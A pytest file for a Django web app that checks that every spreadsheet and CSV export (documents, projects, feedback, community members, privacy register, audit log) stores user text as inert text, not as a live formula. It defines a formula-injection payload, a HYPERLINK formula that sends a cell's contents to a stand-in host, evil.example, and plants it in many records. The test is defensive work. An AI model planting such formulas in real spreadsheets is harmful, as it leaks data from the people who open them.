"""Every spreadsheet export writes user text as text, never as a live formula (issue 12, item 3)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from stdnum.th import pin

from codi.communities import services as communities
from codi.communities.models import Organization, Person
from codi.core.audit import audit_record
from codi.core.spreadsheet import FORMULA_PREFIXES, be_date, cell_value, neutralise
from codi.documents import services as documents
from codi.feedback import services as feedback
from codi.feedback.models import IntakeChannel
from codi.privacy.models import ProcessingActivity
from codi.projects.models import Project
from tests.correspondence.helpers import letter, registrar, unit
from tests.documents.conftest import digital_pdf
from tests.factories import OrganizationFactory
from tests.permissions import signed_in_client
from tests.projects.factories import ProgramFactory, project_at, staff

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B3,"Click")'


def _cells(response) -> list[object]:
    assert response.status_code == 200, response.status_code
    body = response.getvalue()
    if body.startswith(b"PK"):
        book = load_workbook(io.BytesIO(body))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"live formula in {sheet.title}!{cell.coordinate}"
                    cells.append(cell.value)
        return cells
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def _assert_safe(cells: list[object], *, planted: str | None = PAYLOAD) -> None:
    for value in cells:
        if isinstance(value, str) and value[:1] in FORMULA_PREFIXES:
            try:
                float(value)
            except ValueError:
                pytest.fail(f"cell would run as a formula: {value!r}")
    if planted is not None:
        assert any(isinstance(v, str) and planted in v for v in cells), "the planted text is missing"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("ธนาคารข้าว", "ธนาคารข้าว"),
    ],
)
def test_neutralise(text, expected):
    assert neutralise(text) == expected
    assert cell_value(text) == expected


def test_buddhist_era_dates():
    assert be_date(date(2026, 12, 6)) == "6/12/2569"
    assert be_date(None) == ""


def test_every_export_neutralises_a_formula_payload():
    # given user text that is a formula, in every kind of record that is exported
    clerk_unit = unit()
    clerk = registrar(clerk_unit)  # a country-wide project officer who keeps the unit's register
    program = ProgramFactory(name_th=PAYLOAD)
    org = OrganizationFactory(subdistrict_id="400104", name_th=PAYLOAD)
    project = project_at("progress_report")
    Project.objects.filter(pk=project.pk).update(title=PAYLOAD, program=program)
    body = "110170020001"
    person = communities.person_create(
        actor=clerk,
        national_id=body + pin.calc_check_digit(body),
        first_name_th="บุญเรือน",
        last_name_th="ศรีสุข",
        subdistrict_code="400104",
    )
    Person.objects.filter(pk=person.pk).update(first_name_th=PAYLOAD)
    communities.membership_add(actor=clerk, person=person, organization=org, role="member")
    documents.document_create(
        actor=clerk,
        fields=documents.DocumentFields(title=PAYLOAD, area_code="400104"),
        data=digital_pdf(),
        filename="memo.pdf",
    )
    letter(clerk_unit, clerk, subject="=1+2")
    feedback.ticket_submit(
        text=PAYLOAD, channel=IntakeChannel.WEB, subdistrict_code="400104", has_consent=True
    )
    ProcessingActivity.objects.create(
        name_th=PAYLOAD, name_en="x", purpose="other", lawful_basis="@x", data_subjects="-x"
    )
    dpo = staff("data_protection_officer", "country")
    audit_record(actor=None, action="test.formula", object_type="test", changes={"note": PAYLOAD})
    assert Organization.objects.filter(name_th=PAYLOAD).exists()

    officer = signed_in_client(clerk)
    protector = signed_in_client(dpo)
    # when each export is downloaded, then no cell is a live formula and the text is there, as text
    _assert_safe(_cells(officer.get("/documents/export.xlsx")))
    _assert_safe(_cells(officer.get("/correspondence/register.xlsx")), planted="=1+2")
    _assert_safe(_cells(officer.get("/projects/export.xlsx")))
    _assert_safe(_cells(officer.get("/projects/dashboard/export.xlsx")))
    _assert_safe(_cells(officer.get("/feedback/export.csv")))
    _assert_safe(_cells(officer.get("/feedback/export.xlsx")))
    _assert_safe(_cells(officer.get("/communities/organizations/export.xlsx")))
    _assert_safe(_cells(officer.get("/communities/organizations/export.csv")))
    _assert_safe(_cells(officer.get("/communities/members/export.xlsx")))
    _assert_safe(_cells(officer.get("/communities/members/export.csv")))
    _assert_safe(_cells(protector.get("/privacy/register.xlsx")))
    _assert_safe(_cells(protector.get("/governance/catalog/dictionary.xlsx")), planted=None)
    _assert_safe(_cells(protector.get("/audit/?format=csv")))
